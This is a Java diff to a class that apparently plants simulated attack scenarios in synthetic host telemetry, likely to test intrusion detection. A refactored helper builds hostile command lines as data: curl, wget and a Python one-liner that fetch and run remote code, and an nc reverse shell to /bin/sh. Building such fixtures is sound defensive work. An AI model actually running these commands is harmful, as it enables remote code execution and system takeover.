@@ -261,7 +261,7 @@ final class PlantedScenarios {
             case CHILD_ON_OTHER_HOST -> {
                 FleetHost other = otherHost(host);
                 ProcessImage child = a.forkExec(other, t0 + gap, t0 + gap, login.shell(), user, "/tmp", tool.name(),
-                        tool.executable(), List.of(tool.name(), url));
+                        tool.executable(), toolArgs(tool, url));
                 network = a.connect(other, t0 + gap, child, login.shell(), "tcp", destination, 443);
                 a.end(other, t0 + gap + 100, child, login.shell());
             }
@@ -315,7 +315,12 @@ final class PlantedScenarios {
         if (execMs < login.shellExecMs()) {
             forkMs = execMs; // the NETWORK_BEFORE_EXEC near miss: skewed clocks, nothing is causal
         }
-        List<String> args = switch (tool.name()) {
+        return a.forkExec(login.host(), forkMs, execMs, login.shell(), login.shell().user(),
+                login.shell().workingDirectory(), tool.name(), tool.executable(), toolArgs(tool, url));
+    }
+
+    private static List<String> toolArgs(Tool tool, String url) {
+        return switch (tool.name()) {
             case "curl" -> List.of("curl", "-fsSL", url);
             case "wget" -> List.of("wget", "-qO-", url);
             case "nc" -> List.of("nc", hostOf(url), portOf(url), "-e", "/bin/sh");
@@ -323,8 +328,6 @@ final class PlantedScenarios {
                 List.of("python3", "-c", "import urllib.request as u;exec(u.urlopen('" + url + "').read())");
             default -> List.of(tool.executable(), url);
         };
-        return a.forkExec(login.host(), forkMs, execMs, login.shell(), login.shell().user(),
-                login.shell().workingDirectory(), tool.name(), tool.executable(), args);
     }
 
     private ProcessImage allowlisted(Activity a, SshLogin login, long execMs, String which) {
